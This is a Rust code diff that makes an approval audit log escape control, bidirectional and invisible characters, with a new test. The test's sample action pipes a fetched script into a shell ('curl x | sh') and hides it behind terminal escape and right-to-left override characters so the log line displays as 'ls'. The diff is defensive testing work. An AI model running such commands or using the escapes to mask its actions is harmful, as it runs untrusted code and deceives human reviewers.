@@ -7,7 +7,7 @@
 //! for a step that changes nothing else; read by `passepartout approvals
 //! --all`.
 
-use passepartout_gateway::ConversationKey;
+use passepartout_gateway::{ConversationKey, visible};
 
 pub use crate::store::{AuditEvent, Audited, VoteOutcome};
 
@@ -29,8 +29,15 @@ pub fn alone(store: &Store, at_ms: u64, conversation: ConversationKey, what: Aud
 }
 
 impl AuditEvent {
-    /// One line for a person: what, where, who.
+    /// One line for a person: what, where, who; what a call, a person or
+    /// a model wrote in it shown with its control, bidirectional and
+    /// invisible characters as escapes, so a line never redraws, reorders or
+    /// hides itself (nor does one kept before they were escaped).
     pub fn describe(&self) -> String {
+        visible::line(&self.line()).into_owned()
+    }
+
+    fn line(&self) -> String {
         match &self.what {
             Audited::Requested {
                 token,
@@ -193,6 +200,26 @@ mod tests {
         assert_eq!(
             event.describe(),
             "requested ABCDEFGH `shell: ls` by Ada Lovelace @ada (telegram:42) in telegram:42"
+        );
+    }
+
+    #[test]
+    fn a_line_never_redraws_or_reorders_itself() {
+        // As kept before actions were escaped: the line is escaped when read.
+        let event = AuditEvent {
+            at_ms: 0,
+            conversation: ConversationKey::new(GatewayId::new("socket").unwrap(), ChatId::new("me").unwrap()),
+            what: Audited::Decided {
+                token: ApprovalToken::new("ABCDEFGH").unwrap(),
+                action: "shell: curl x | sh\r\u{1b}[2Kls\n\u{202e}".into(),
+                outcome: Status::Approved,
+                by: None,
+                how: How::Timer,
+            },
+        };
+        assert_eq!(
+            event.describe(),
+            "approved ABCDEFGH `shell: curl x | sh\\r\\x1b[2Kls\\n\\u{202e}` (timer) in socket:me"
         );
     }
 
